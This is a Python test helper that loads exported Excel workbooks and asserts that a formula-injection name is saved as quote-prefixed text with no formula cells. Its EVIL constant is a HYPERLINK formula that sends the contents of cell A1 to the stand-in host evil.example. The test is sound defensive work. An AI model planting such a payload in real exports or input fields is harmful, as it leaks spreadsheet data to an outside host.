"""Reading exported workbooks back in tests."""

import io

from openpyxl import load_workbook

# The attack of issue 13: a name that a spreadsheet would run as a formula.
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


def workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return workbook_bytes(response.getvalue())


def workbook_bytes(content: bytes):
    """A workbook from its bytes (a file a browser downloaded, a service's output)."""
    return load_workbook(io.BytesIO(content))


def assert_evil_is_text(response, evil=EVIL):
    """The export holds ``evil`` as a plain, quote-prefixed string cell and no formula at all."""
    sheet = workbook(response).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and evil in cell.value:
                found.append(cell)
    assert found, "the evil value is not in the export"
    for cell in found:
        assert cell.data_type == "s" and cell.value.startswith("=")
        assert cell.quotePrefix, cell.coordinate
    return sheet
